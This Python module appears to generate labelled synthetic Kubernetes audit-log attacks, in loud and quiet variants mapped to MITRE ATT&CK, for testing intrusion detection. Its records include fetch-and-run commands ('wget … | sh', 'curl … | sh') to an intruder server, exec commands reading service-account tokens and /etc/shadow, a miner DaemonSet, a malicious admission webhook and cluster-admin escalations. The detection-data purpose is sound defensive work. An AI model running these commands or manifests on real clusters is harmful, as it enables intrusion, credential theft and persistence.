"""A library of labelled attacks, each the API calls a real intruder makes for one technique.

Every attack comes in two variants. *Loud* is what tools such as kube-hunter or a hurried
intruder produce: a burst of calls, often from a new client. *Quiet* is an intruder who knows
audit logs exist: few calls, spread over the victim's working hours, from the victim's own pod
or machine with the victim's user agent wherever copying it is possible.

Nothing here is a marker that ordinary traffic never has. Intruders' addresses come from the
same networks as benign novelty (:mod:`scenarios.networks`: cloud VMs, residential proxies,
mobile and VPN exits) or from a compromised pod; their user agents are those of real clients:
kubectl of a version people in the cluster use, the victim's own client-go, curl,
python-requests.
"""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import dataclass, replace
from datetime import datetime, timedelta

import numpy as np

from scenarios import networks
from scenarios.cluster import KUBECTL_UAS, Actor, Cluster, sa_identity
from scenarios.eks import Call, Identity
from scenarios.normal import WORKING_HOURS

#: The default user agents of the real tools intruders use, by tool. Everything else an
#: attack sends is a user agent the cluster's own clients send.
CURL = "curl/8.5.0"  # curl as Ubuntu 24.04 ships it
PYTHON_REQUESTS = "python-requests/2.31.0"  # requests' default; kube-hunter sets no user agent of its own
GO_HTTP = "Go-http-client/1.1"  # Go net/http's default: any Go scanner that sets none
TOOL_UAS: dict[str, str] = {
    "curl": CURL,
    "python-requests (kube-hunter, scripts)": PYTHON_REQUESTS,
    "Go net/http": GO_HTTP,
}
#: Local night hours [start, end); working hours are people's (scenarios.normal.WORKING_HOURS).
NIGHT_HOURS = (0, 6)


@dataclass
class Context:
    """What an attack builder may look at: the cluster, its own RNG and the variant.

    ``victim`` is the first actor the builder picked (through :meth:`app` or :meth:`person`):
    the attack keeps that person's hours, which matters where several people share one
    username (``developer``).
    """

    cluster: Cluster
    rng: np.random.Generator
    loud: bool
    victim: Actor | None = None

    def _actors(self, kind: str) -> list[Actor]:
        # The one place victims come from, so that a cluster whose cast changes day by day
        # only ever hands out actors that exist on the attack's day.
        return self.cluster.actors_of(kind)

    def _pick(self, kind: str, i: int) -> Actor:
        actors = self._actors(kind)
        actor = actors[i % len(actors)]
        if self.victim is None:
            self.victim = actor
        return actor

    def app(self, i: int) -> Actor:
        return self._pick("app", i)

    def person(self, kind: str, i: int = 0) -> Actor:
        return self._pick(kind, i)

    def address(self, kind: str) -> str:
        """A host in a network of ``kind`` (cloud, residential, mobile, vpn), as benign newcomers have."""
        return networks.address(self.rng, kind)

    def kubectl(self, os: str = "") -> str:
        """A kubectl user agent of a version people in the cluster use (built for ``os`` if one is)."""
        uas = [ua for ua in KUBECTL_UAS if f"({os}/" in ua] or list(KUBECTL_UAS)
        return uas[int(self.rng.integers(len(uas)))]

    # An attack's calls are drawn before their times (:func:`schedule`), so its victims are
    # namespaces and pods that exist all day; on a day that has none, whatever the cluster had
    # that day, and :func:`in_life` moves each call to one that exists at its time.
    def all_namespaces(self) -> list[str]:
        """The namespaces that exist all day."""
        return self._whole_day(self.cluster.namespaces)

    def app_namespaces(self) -> list[str]:
        """The application namespaces that exist all day."""
        return self._whole_day(self.cluster.app_namespaces)

    def pods(self, namespace: str) -> list[str]:
        """The pods of ``namespace`` that exist all day."""
        pods = self.cluster.pods.get(namespace, [])
        return [p for p in pods if (namespace, p) not in self.cluster.pod_spans] or pods

    def _whole_day(self, namespaces: list[str]) -> list[str]:
        return [ns for ns in namespaces if ns not in self.cluster.namespace_spans] or namespaces

    def namespaces(self, n_quiet: int) -> list[str]:
        ns = self.all_namespaces()
        if self.loud:
            return list(ns)
        picks = self.rng.choice(len(ns), size=min(n_quiet, len(ns)), replace=False)
        return [ns[i] for i in sorted(picks)]


Steps = list[tuple[Call, Identity]]


@dataclass(frozen=True)
class Attack:
    """A named, documented attack scenario mapped to MITRE ATT&CK."""

    name: str
    technique: str
    title: str
    summary: str
    build: Callable[[Context], Steps]
    off_hours: bool = False  # the loud variant happens at night (victim's time)
    paced: bool = False  # low and slow: a few calls an hour through the victim's working day


def _in_pod(actor: Actor, ctx: Context, loud_ua: str) -> Identity:
    """The victim SA as used by an intruder inside one of its pods: that pod's address and,
    when loud, the client the intruder brought (curl, or kubectl dropped into the pod)."""
    ip = actor.identity.ips[int(ctx.rng.integers(len(actor.identity.ips)))]
    return replace(actor.identity, ips=(ip,), user_agent=loud_ua if ctx.loud else actor.identity.user_agent)


def _list_query(who: Identity) -> str:
    # kubectl pages its lists; curl and a bare client-go List() send no query string.
    return "limit=500" if who.user_agent.startswith("kubectl/") else ""


def secret_enumeration(ctx: Context) -> Steps:
    # Loud: curl with the pod's mounted token, the first thing post-exploitation guides try.
    who = _in_pod(ctx.app(0), ctx, CURL)
    own = ctx.app(0).namespace
    q = _list_query(who)
    steps = [(Call("list", "secrets", None, query=q, allowed=False), who)] if ctx.loud else []
    for ns in ctx.namespaces(3):
        steps.append((Call("list", "secrets", ns, query=q, allowed=(ns == own)), who))
        if ns == own and ctx.loud:
            steps += [(Call("get", "secrets", ns, name), who) for name in ("db-credentials", f"{ns}-tls")]
    return steps


def permission_discovery(ctx: Context) -> Steps:
    # Loud: kubectl dropped into the pod, `kubectl auth can-i --list` and `can-i <verb> <resource>`.
    who = _in_pod(ctx.app(1), ctx, ctx.kubectl("linux"))
    steps: Steps = []
    for ns in ctx.namespaces(2):
        steps.append(
            (
                Call(
                    "create",
                    "selfsubjectrulesreviews",
                    body={
                        "kind": "SelfSubjectRulesReview",
                        "apiVersion": "authorization.k8s.io/v1",
                        "spec": {"namespace": ns},
                    },
                ),
                who,
            )
        )
    checks = [
        ("create", "pods"),
        ("create", "pods/exec"),
        ("get", "secrets"),
        ("list", "secrets"),
        ("create", "clusterrolebindings"),
        ("impersonate", "users"),
        ("create", "serviceaccounts/token"),
        ("patch", "configmaps"),
        ("create", "daemonsets"),
        ("escalate", "clusterroles"),
        ("bind", "clusterroles"),
        ("approve", "certificatesigningrequests"),
    ]
    for verb, resource in checks if ctx.loud else checks[:2]:
        res, _, sub = resource.partition("/")
        steps.append(
            (
                Call(
                    "create",
                    "selfsubjectaccessreviews",
                    body={
                        "kind": "SelfSubjectAccessReview",
                        "apiVersion": "authorization.k8s.io/v1",
                        "spec": {"resourceAttributes": {"verb": verb, "resource": res, "subresource": sub}},
                    },
                ),
                who,
            )
        )
    return steps


def exec_into_pods(ctx: Context) -> Steps:
    human = ctx.person("developer", 1)
    who = human.identity
    targets = [("kube-system", p) for p in ctx.pods("kube-system")[:3]]
    targets += [(ns, ctx.pods(ns)[0]) for ns in ctx.app_namespaces()[:3]]
    if not ctx.loud:
        targets = [targets[-1], targets[0]]
    commands = [
        "cat+%2Fvar%2Frun%2Fsecrets%2Fkubernetes.io%2Fserviceaccount%2Ftoken",
        "env",
        "cat+%2Fetc%2Fshadow",
        "id",
    ]
    steps: Steps = []
    for i, (ns, pod) in enumerate(targets):
        cmd = commands[i % len(commands)]
        steps.append(
            (
                Call(
                    "create",
                    "pods",
                    ns,
                    pod,
                    "exec",
                    query=f"command=sh&command=-c&command={cmd}&container=main&stderr=true&stdout=true",
                    duration_s=2.0,
                ),
                who,
            )
        )
    return steps


def _pod_spec(image: str, privileged: bool, host_root: bool, host_pid: bool, command: list[str]) -> dict:
    spec: dict = {
        "containers": [
            {
                "name": "main",
                "image": image,
                "command": command,
                "securityContext": {"privileged": privileged},
                "volumeMounts": [{"name": "host", "mountPath": "/host"}] if host_root else [],
            }
        ]
    }
    if host_root:
        spec["volumes"] = [{"name": "host", "hostPath": {"path": "/", "type": "Directory"}}]
    if host_pid:
        spec["hostPID"] = True
        spec["hostNetwork"] = True
    return spec


def privileged_pod(ctx: Context) -> Steps:
    ci = ctx.person("ci").identity
    # Loud: the CI role's credentials, taken from a runner, used with kubectl from a cloud VM.
    # Quiet: a poisoned pipeline step, from CI's own runners with CI's own client.
    who = replace(ci, user_agent=ctx.kubectl(), ips=(ctx.address("cloud"),)) if ctx.loud else ci
    if ctx.loud:
        ns, name, image = "kube-system", "node-debugger-x7k2p", "alpine:3.19"
        spec = _pod_spec(image, True, True, True, ["nsenter", "-t", "1", "-m", "-u", "-i", "-n", "sh"])
    else:
        app = ctx.app_namespaces()[0]
        ns, name = app, f"{app}-api-migrate-{int(ctx.rng.integers(1000, 9999))}"
        image = f"{ctx.cluster.spec.name}.dkr.ecr.us-west-2.amazonaws.com/{app}-api:4412"
        spec = _pod_spec(image, True, True, False, ["/bin/migrate"])
    body = {"kind": "Pod", "apiVersion": "v1", "metadata": {"name": name, "namespace": ns}, "spec": spec}
    steps: Steps = [(Call("create", "pods", ns, name, body=body), who)]
    if ctx.loud:
        steps.append((Call("get", "pods", ns, name), who))
        steps.append(
            (
                Call(
                    "create",
                    "pods",
                    ns,
                    name,
                    "exec",
                    query="command=sh&stdin=true&stdout=true&tty=true",
                    duration_s=300.0,
                ),
                who,
            )
        )
    return steps


def cluster_admin_binding(ctx: Context) -> Steps:
    victim = ctx.app(2)
    who = _in_pod(victim, ctx, ctx.kubectl("linux"))
    steps: Steps = []
    subject: dict[str, str | None]
    if ctx.loud:
        steps.append(
            (
                Call(
                    "create",
                    "serviceaccounts",
                    "kube-system",
                    "kube-helper",
                    body={
                        "kind": "ServiceAccount",
                        "apiVersion": "v1",
                        "metadata": {"name": "kube-helper", "namespace": "kube-system"},
                    },
                ),
                who,
            )
        )
        subject = {"kind": "ServiceAccount", "name": "kube-helper", "namespace": "kube-system"}
        name = "kube-helper-admin"
    else:
        subject = {
            "kind": "ServiceAccount",
            "name": victim.identity.username.rsplit(":", 1)[1],
            "namespace": victim.namespace,
        }
        name = "system:metrics-server-aggregated-reader"
    steps.append(
        (
            Call(
                "create",
                "clusterrolebindings",
                None,
                name,
                body={
                    "kind": "ClusterRoleBinding",
                    "apiVersion": "rbac.authorization.k8s.io/v1",
                    "metadata": {"name": name},
                    "roleRef": {
                        "apiGroup": "rbac.authorization.k8s.io",
                        "kind": "ClusterRole",
                        "name": "cluster-admin",
                    },
                    "subjects": [subject],
                },
            ),
            who,
        )
    )
    if ctx.loud:
        # The new account's token, used with curl from the same pod.
        helper = sa_identity("kube-system", "kube-helper", who.ips, CURL, ctx.rng)
        steps += [(Call("list", "secrets", None), helper), (Call("list", "nodes"), helper)]
    return steps


def token_request(ctx: Context) -> Steps:
    # Loud: `kubectl create token <sa> -n <ns>` from kubectl dropped into the pod.
    who = _in_pod(ctx.app(3), ctx, ctx.kubectl("linux"))
    targets = [
        ("kube-system", "clusterrole-aggregation-controller"),
        ("argocd", "argocd-application-controller"),
        ("kube-system", "generic-garbage-collector"),
        ("cert-manager", "cert-manager"),
        ("monitoring", "prometheus-k8s"),
    ]
    targets = targets if ctx.loud else targets[1:2]
    steps: Steps = []
    for ns, sa in targets:
        steps.append(
            (
                Call(
                    "create",
                    "serviceaccounts",
                    ns,
                    sa,
                    "token",
                    body={
                        "kind": "TokenRequest",
                        "apiVersion": "authentication.k8s.io/v1",
                        "spec": {"audiences": ["https://kubernetes.default.svc"], "expirationSeconds": 86400},
                    },
                ),
                who,
            )
        )
    # The minted token is then used: the other account acts from the intruder's pod.
    ns, sa = targets[0]
    minted = sa_identity(ns, sa, who.ips, CURL if ctx.loud else who.user_agent, ctx.rng)
    for target_ns in ctx.all_namespaces() if ctx.loud else ctx.app_namespaces()[:1]:
        steps.append((Call("list", "secrets", target_ns, query=_list_query(minted)), minted))
    return steps


def stolen_token_external(ctx: Context) -> Steps:
    # The token read from a leaked manifest, image layer or log: loud, curl from a cloud VM;
    # quiet, through a residential proxy with the application's own user agent copied.
    victim = ctx.app(4)
    if ctx.loud:
        who = replace(victim.identity, ips=(ctx.address("cloud"),), user_agent=CURL)
    else:
        who = replace(victim.identity, ips=(ctx.address("residential"),))
    steps: Steps = [(Call("get", path="/api", query=""), who), (Call("get", path="/version"), who)]
    steps += [(Call("get", "secrets", victim.namespace, "db-credentials"), who)]
    if ctx.loud:
        steps += [
            (Call("list", "pods", None, allowed=False), who),
            (Call("list", "secrets", None, allowed=False), who),
            (Call("list", "secrets", victim.namespace), who),
            (Call("list", "namespaces", allowed=False), who),
        ]
    return steps


def anonymous_probing(ctx: Context) -> Steps:
    # Loud: kube-hunter's remote scan from a cloud VM (python-requests is all it sends).
    # Quiet: a few hand-picked paths from a residential proxy with Go's default client, the
    # same user agent as the cluster's own /version checks.
    who = Identity(
        "system:anonymous",
        ("system:unauthenticated",),
        (ctx.address("cloud" if ctx.loud else "residential"),),
        PYTHON_REQUESTS if ctx.loud else GO_HTTP,
    )
    paths = [
        "/version",
        "/api",
        "/apis",
        "/api/v1/namespaces",
        "/api/v1/pods",
        "/api/v1/secrets",
        "/api/v1/nodes",
        "/apis/apps/v1/deployments",
        "/api/v1/configmaps",
        "/api/v1/serviceaccounts",
        "/apis/rbac.authorization.k8s.io/v1/clusterrolebindings",
        "/metrics",
        "/logs",
        "/debug/pprof/",
        "/.well-known/openid-configuration",
        "/openid/v1/jwks",
        "/api/v1/namespaces/kube-system/secrets",
        "/apis/batch/v1/jobs",
        "/api/v1/services",
        "/apis/apiextensions.k8s.io/v1/customresourcedefinitions",
    ]
    allowed = {"/version", "/.well-known/openid-configuration", "/openid/v1/jwks"}
    chosen = paths * 3 if ctx.loud else ["/version", "/api", "/api/v1/namespaces", "/api/v1/secrets"]
    return [(Call("get", path=p, allowed=p in allowed), who) for p in chosen]


def _cron_body(name: str, ns: str, image: str, command: list[str], host: bool) -> dict:
    pod = _pod_spec(image, host, host, host, command)
    pod["restartPolicy"] = "OnFailure"
    return {
        "kind": "CronJob",
        "apiVersion": "batch/v1",
        "metadata": {"name": name, "namespace": ns},
        "spec": {"schedule": "*/5 * * * *", "jobTemplate": {"spec": {"template": {"spec": pod}}}},
    }


def cronjob_persistence(ctx: Context) -> Steps:
    ci = ctx.person("ci").identity
    # The script comes from the intruder's own server, a cloud VM like any other.
    server = ctx.address("cloud")
    if ctx.loud:
        who = replace(ci, ips=(ctx.address("cloud"),), user_agent=ctx.kubectl())
        name, ns, image = "kube-cleanup", "kube-system", "alpine:3.19"
        cmd = ["sh", "-c", f"wget -qO- http://{server}/x.sh | sh"]
    else:
        who = ci
        ns = ctx.app_namespaces()[1]
        name, image = f"{ns}-report", f"{ctx.cluster.spec.name}.dkr.ecr.us-west-2.amazonaws.com/{ns}-api:4412"
        cmd = ["sh", "-c", f"curl -s https://{server}/r | sh"]
    body = _cron_body(name, ns, image, cmd, ctx.loud)
    return [(Call("create", "cronjobs", ns, name, body=body), who)]


def _stolen_session(admin: Actor, ctx: Context, network: str) -> Identity:
    """Loud: a person's stolen credentials with the intruder's kubectl from ``network``; quiet: as the person."""
    if not ctx.loud:
        return admin.identity
    return replace(admin.identity, ips=(ctx.address(network),), user_agent=ctx.kubectl())


def daemonset_persistence(ctx: Context) -> Steps:
    admin = ctx.person("admin", 0)
    # Loud: the admin's stolen kubeconfig and SSO session, used with kubectl through a VPN.
    # Quiet: from the admin's own machine (a hijacked session), in the admin's hours.
    who = _stolen_session(admin, ctx, "vpn")
    name = "node-agent-ext" if ctx.loud else "aws-node-metrics"
    pod = _pod_spec(
        "docker.io/xmrig/xmrig:latest" if ctx.loud else "public.ecr.aws/amazonlinux/amazonlinux:2",
        True,
        True,
        ctx.loud,
        ["/bin/sh", "-c", "sleep infinity"],
    )
    body = {
        "kind": "DaemonSet",
        "apiVersion": "apps/v1",
        "metadata": {"name": name, "namespace": "kube-system"},
        "spec": {
            "selector": {"matchLabels": {"app": name}},
            "template": {"metadata": {"labels": {"app": name}}, "spec": pod},
        },
    }
    steps: Steps = [(Call("create", "daemonsets", "kube-system", name, body=body), who)]
    if ctx.loud:
        steps += [(Call("list", "pods", "kube-system", query=f"labelSelector=app%3D{name}"), who)]
    return steps


def mutating_webhook(ctx: Context) -> Steps:
    admin = ctx.person("admin", 1)
    who = _stolen_session(admin, ctx, "vpn")
    server = ctx.address("cloud")  # the intruder's webhook server
    name = "pod-policy.example.dev" if ctx.loud else "vpc-resource-mutating-webhook-v2"
    body = {
        "kind": "MutatingWebhookConfiguration",
        "apiVersion": "admissionregistration.k8s.io/v1",
        "metadata": {"name": name},
        "webhooks": [
            {
                "name": "inject.pod-policy.example.dev",
                "clientConfig": {"url": f"https://{server}:8443/mutate"},
                "rules": [{"operations": ["CREATE"], "apiGroups": [""], "apiVersions": ["v1"], "resources": ["pods"]}],
                "failurePolicy": "Ignore",
                "sideEffects": "None",
                "admissionReviewVersions": ["v1"],
            }
        ],
    }
    steps: Steps = [(Call("create", "mutatingwebhookconfigurations", None, name, body=body), who)]
    if ctx.loud:
        steps.insert(0, (Call("list", "mutatingwebhookconfigurations", query=_list_query(who)), who))
    return steps


def aws_auth_edit(ctx: Context) -> Steps:
    admin = ctx.person("admin", 0)
    who = _stolen_session(admin, ctx, "residential")
    role = (
        "arn:aws:iam::444455556666:role/ext-support" if ctx.loud else "arn:aws:iam::111122223333:role/eks-node-group-2"
    )
    username = "ext-support" if ctx.loud else "system:node:{{EC2PrivateDNSName}}"
    map_roles = f"- rolearn: {role}\n  username: {username}\n  groups:\n  - system:masters\n"
    steps: Steps = [
        (Call("get", "configmaps", "kube-system", "aws-auth"), who),
        (
            Call(
                "patch",
                "configmaps",
                "kube-system",
                "aws-auth",
                body={"kind": "ConfigMap", "apiVersion": "v1", "data": {"mapRoles": map_roles}},
            ),
            who,
        ),
    ]
    return steps


def events_deleted(ctx: Context) -> Steps:
    # Loud: `kubectl delete events --all -n <ns>` per namespace, kubectl dropped into the pod.
    who = _in_pod(ctx.app(2), ctx, ctx.kubectl("linux"))
    if ctx.loud:
        return [
            (Call("deletecollection", "events", ns), who) for ns in ("kube-system", "default", *ctx.app_namespaces())
        ]
    ns = ctx.app(2).namespace
    return [(Call("delete", "events", ns, f"{ns}-api.17c2a{int(ctx.rng.integers(1000, 9999))}"), who) for _ in range(2)]


def csr_approval(ctx: Context) -> Steps:
    # Loud: `kubectl certificate approve`, kubectl dropped into the pod.
    who = _in_pod(ctx.app(5), ctx, ctx.kubectl("linux"))
    name = "node-csr-x91kq" if not ctx.loud else "admin-access"
    body = {
        "kind": "CertificateSigningRequest",
        "apiVersion": "certificates.k8s.io/v1",
        "metadata": {"name": name},
        "spec": {
            "request": "LS0tLS1CRUdJTiBDRVJUSUZJQ0FURSBSRVFVRVNULS0tLS0K",
            "signerName": "kubernetes.io/kube-apiserver-client",
            "groups": ["system:masters", "system:authenticated"],
            "usages": ["client auth"],
        },
    }
    steps: Steps = [
        (Call("create", "certificatesigningrequests", None, name, body=body), who),
        (
            Call(
                "update",
                "certificatesigningrequests",
                None,
                name,
                "approval",
                body={
                    "kind": "CertificateSigningRequest",
                    "apiVersion": "certificates.k8s.io/v1",
                    "status": {"conditions": [{"type": "Approved", "status": "True"}]},
                },
            ),
            who,
        ),
        (Call("get", "certificatesigningrequests", None, name), who),
    ]
    return steps


def impersonation(ctx: Context) -> Steps:
    who = ctx.person("developer", 0).identity
    target = "system:admin" if ctx.loud else "eks:addon-manager"
    steps: Steps = []
    for ns in ctx.namespaces(1):
        steps.append((Call("list", "secrets", ns, query="limit=500", impersonate=target), who))
    if ctx.loud:
        steps.append((Call("list", "nodes", query="limit=500", impersonate=target), who))
    return steps


def night_session_new_country(ctx: Context) -> Steps:
    admin = ctx.person("admin", 1)
    # Loud: the session with the intruder's own kubectl through a VPN exit, at night.
    # Quiet: from a phone network abroad, the admin's own kubectl, in the admin's hours.
    ua = ctx.kubectl() if ctx.loud else admin.identity.user_agent
    who = replace(admin.identity, ips=(ctx.address("vpn" if ctx.loud else "mobile"),), user_agent=ua)
    steps: Steps = [
        (Call("get", path="/api", query="timeout=32s"), who),
        (Call("get", path="/apis", query="timeout=32s"), who),
    ]
    for ns in ctx.namespaces(2):
        steps.append((Call("list", "secrets", ns, query="limit=500"), who))
    if ctx.loud:
        steps += [
            (Call("list", "nodes", query="limit=500"), who),
            (Call("get", "configmaps", "kube-system", "aws-auth"), who),
        ]
    return steps


def _per_hour(ctx: Context) -> int:
    return 3 if ctx.loud else 1


def low_and_slow_probing(ctx: Context) -> Steps:
    """A compromised application feels out its neighbours: list and get secrets, config maps and
    pods in namespaces it has no rights in, a call or three an hour so that no hour stands out.

    The calls come from the application's own pod with its own client (a malicious dependency
    or an injected payload using the pod's client-go), and every one of them is denied.
    """
    victim = ctx.app(6)
    who = _in_pod(victim, ctx, victim.identity.user_agent)
    foreign = [ns for ns in ctx.all_namespaces() if ns != victim.namespace]
    probes = [
        ("list", "secrets", None),
        ("get", "secrets", "db-credentials"),
        ("list", "configmaps", None),
        ("get", "configmaps", "kube-root-ca.crt"),
        ("list", "pods", None),
    ]
    hours = int(ctx.rng.integers(8, WORKING_HOURS[1] - WORKING_HOURS[0] + 1))
    steps: Steps = []
    for _ in range(hours * _per_hour(ctx)):
        verb, resource, name = probes[int(ctx.rng.integers(len(probes)))]
        ns = foreign[int(ctx.rng.integers(len(foreign)))]
        steps.append((Call(verb, resource, ns, name, allowed=False), who))
    return steps


ATTACKS: dict[str, Attack] = {
    a.name: a
    for a in [
        Attack(
            "secret_enumeration",
            "T1552.007",
            "Unsecured Credentials: Container API",
            "A compromised application service account lists secrets namespace by namespace; most attempts are denied.",
            secret_enumeration,
        ),
        Attack(
            "permission_discovery",
            "T1069",
            "Permission Groups Discovery",
            "A compromised service account asks what it may do: SelfSubjectRulesReview per "
            "namespace and SelfSubjectAccessReview for dangerous verbs (kubectl auth can-i).",
            permission_discovery,
        ),
        Attack(
            "exec_into_pods",
            "T1609",
            "Container Administration Command",
            "A developer identity that never execs opens shells in pods, kube-system included, "
            "and reads the service account token.",
            exec_into_pods,
            off_hours=True,
        ),
        Attack(
            "privileged_pod",
            "T1611",
            "Escape to Host",
            "Stolen CI credentials create a bare privileged pod with hostPath / (and hostPID, "
            "hostNetwork when loud), then exec into it.",
            privileged_pod,
        ),
        Attack(
            "cluster_admin_binding",
            "T1098.006",
            "Account Manipulation: Additional Container Cluster Roles",
            "A service account binds a new (loud) or its own (quiet) service account to cluster-admin.",
            cluster_admin_binding,
        ),
        Attack(
            "token_request",
            "T1528",
            "Steal Application Access Token",
            "A service account mints tokens for more powerful service accounts with the "
            "TokenRequest API, then uses one.",
            token_request,
        ),
        Attack(
            "stolen_token_external",
            "T1550.001",
            "Use Alternate Authentication Material: Application Access Token",
            "An application's service account token is used from a new public address: curl from a cloud VM "
            "(loud) or the application's own user agent through a residential proxy (quiet).",
            stolen_token_external,
            off_hours=True,
        ),
        Attack(
            "anonymous_probing",
            "T1595",
            "Active Scanning",
            "Unauthenticated requests probe many API endpoints, as kube-hunter does from a cloud VM (loud), "
            "or a handful of them through a residential proxy (quiet).",
            anonymous_probing,
            off_hours=True,
        ),
        Attack(
            "cronjob_persistence",
            "T1053.007",
            "Scheduled Task/Job: Container Orchestration Job",
            "Stolen CI credentials create a CronJob that downloads and runs a script.",
            cronjob_persistence,
        ),
        Attack(
            "daemonset_persistence",
            "T1543.005",
            "Create or Modify System Process: Container Service",
            "A platform admin session creates a privileged DaemonSet in kube-system (a miner, when loud).",
            daemonset_persistence,
            off_hours=True,
        ),
        Attack(
            "mutating_webhook",
            "T1546",
            "Event Triggered Execution (malicious admission controller)",
            "A mutating admission webhook is registered that sends every pod create to an external URL.",
            mutating_webhook,
            off_hours=True,
        ),
        Attack(
            "aws_auth_edit",
            "T1098",
            "Account Manipulation",
            "The aws-auth ConfigMap is patched to map an IAM role to system:masters.",
            aws_auth_edit,
            off_hours=True,
        ),
        Attack(
            "events_deleted",
            "T1070",
            "Indicator Removal",
            "A service account deletes Kubernetes events to cover its tracks.",
            events_deleted,
        ),
        Attack(
            "csr_approval",
            "T1649",
            "Steal or Forge Authentication Certificates",
            "A CSR for a system:masters client certificate is created and approved by the same identity.",
            csr_approval,
        ),
        Attack(
            "impersonation",
            "T1134",
            "Access Token Manipulation (impersonation)",
            "A developer identity impersonates a privileged user to read secrets.",
            impersonation,
        ),
        Attack(
            "night_session_new_country",
            "T1078.004",
            "Valid Accounts: Cloud Accounts",
            "A platform admin's IAM session is used from a new country: at night through a VPN exit with "
            "the intruder's kubectl (loud), or in the admin's working hours from a foreign mobile network (quiet).",
            night_session_new_country,
            off_hours=True,
        ),
        Attack(
            "low_and_slow_probing",
            "T1613",
            "Container and Resource Discovery (low and slow)",
            "A compromised application's service account probes other namespaces from its own pod with its "
            "own client: one denied get or list of secrets, config maps or pods an hour (three when loud) "
            "through a working day.",
            low_and_slow_probing,
            paced=True,
        ),
    ]
}


def _local_hour(rng: np.random.Generator, hours: tuple[int, int], length: int = 1) -> int:
    """A random local hour from which ``length`` hours fit in ``hours``."""
    return int(rng.integers(hours[0], hours[1] - length + 1))


def schedule(
    attack: Attack, steps: Steps, ctx: Context, day: datetime, tz_offset: int
) -> list[tuple[datetime, Call, Identity]]:
    """Give each step a time, at a random hour of the kind the attack defines.

    Hours are the victim's local hours (``ctx.victim``'s time zone, else ``tz_offset``). A loud
    off-hours attack is a burst in the night (00-06); every other loud attack a burst in
    working hours (09-18). A quiet attack spreads its calls over a random stretch of the
    victim's working hours. A paced (low-and-slow) attack makes its calls a few an hour, in
    consecutive hours of the working day.
    """
    rng = ctx.rng
    tz = ctx.victim.tz_offset if ctx.victim is not None else tz_offset

    def at(local_hour: float) -> datetime:
        # Modulo 24 keeps the attack inside the simulated UTC day whatever the time zone.
        return day + timedelta(hours=(local_hour - tz) % 24)

    if attack.paced:
        per_hour = _per_hour(ctx)
        n_hours = -(-len(steps) // per_hour)
        first = _local_hour(rng, WORKING_HOURS, n_hours)
        hour_of_step = np.repeat(np.arange(n_hours), per_hour)[: len(steps)]
        offsets = np.sort(3600.0 * hour_of_step + rng.uniform(0, 3600, size=len(steps)))
        begin = at(first)
        return [(begin + timedelta(seconds=float(o)), c, w) for o, (c, w) in zip(offsets, steps, strict=True)]
    if ctx.loud:
        local_hour = _local_hour(rng, NIGHT_HOURS if attack.off_hours else WORKING_HOURS)
        # The burst starts in the first half hour and lasts minutes, so it ends within the hour.
        start = at(local_hour) + timedelta(seconds=float(rng.uniform(0, 1800)))
        gaps = np.cumsum(rng.gamma(1.2, 1.5, size=len(steps)))
        return [(start + timedelta(seconds=float(g)), c, w) for g, (c, w) in zip(gaps, steps, strict=True)]
    first = _local_hour(rng, WORKING_HOURS, 1)
    span = 3600.0 * float(rng.uniform(1, WORKING_HOURS[1] - first))
    begin = at(first)
    spread = np.sort(rng.uniform(0, span, size=len(steps)))
    return [(begin + timedelta(seconds=float(o)), c, w) for o, (c, w) in zip(spread, steps, strict=True)]


def in_life(cluster: Cluster, timed: list[tuple[datetime, Call, Identity]]) -> list[tuple[datetime, Call, Identity]]:
    """Move each call that names a namespace or pod of ``cluster`` outside its life to one that
    exists at the call's time (needed only on a day where none existed all day)."""
    out = []
    for t, call, who in timed:
        ns = call.namespace
        if ns in cluster.namespaces and not cluster.exists(ns, cluster.seconds(t)):
            live = [n for n in cluster.namespaces if cluster.exists(n, cluster.seconds(t))]
            ns = live[0] if live else ns
            call = replace(call, namespace=ns)
        known = cluster.pods.get(ns or "", [])
        if call.resource == "pods" and call.name in known and call.name not in cluster.pods_at(ns or "", t):
            live = cluster.pods_at(ns or "", t)
            call = replace(call, name=live[0] if live else call.name)
        out.append((t, call, who))
    return out
